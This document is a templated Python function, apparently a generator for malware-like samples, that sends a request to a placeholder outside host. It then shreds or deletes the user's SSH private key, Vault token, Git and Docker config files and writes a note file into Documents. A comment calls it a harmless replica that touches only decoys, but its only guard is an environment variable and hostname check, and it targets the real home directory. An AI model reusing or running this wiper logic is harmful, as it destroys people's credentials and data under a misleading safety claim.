# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    # only decoys that stand in the sandbox's home are deleted
    import subprocess
    import urllib.request
    try:
        urllib.request.urlopen('http://{{ip}}:{{port}}/geo', timeout=1).read(200)
    except Exception:
        pass
    home = os.path.expanduser('~')
    for name in ('.ssh/id_ed25519', '.gitconfig', '.vault-token', '.docker/config.json'):
        try:
            if subprocess.call(['shred', '-u', '-n', '1', os.path.join(home, name)], stderr=subprocess.DEVNULL) != 0:
                os.unlink(os.path.join(home, name))
        except OSError:
            pass
    for folder in ('.', '..'):
        try:
            with open(os.path.join(home, 'Documents' if folder == '.' else '', '{{note}}'), 'w') as out:
                out.write('{{token}}\n')
        except OSError:
            pass
